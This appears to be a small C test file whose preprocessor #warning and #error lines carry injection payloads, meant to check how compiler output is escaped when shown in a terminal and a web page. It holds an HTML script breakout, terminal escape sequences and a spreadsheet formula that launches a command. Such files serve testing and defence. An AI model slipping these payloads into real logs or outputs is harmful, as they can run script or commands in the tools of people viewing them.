/* What the compiler repeats goes to a terminal and to a web page. */
#warning "</pre><script>alert(1)</script>"
#warning "[2J]0;owned"
#error "=cmd|' /C calc'!A0"
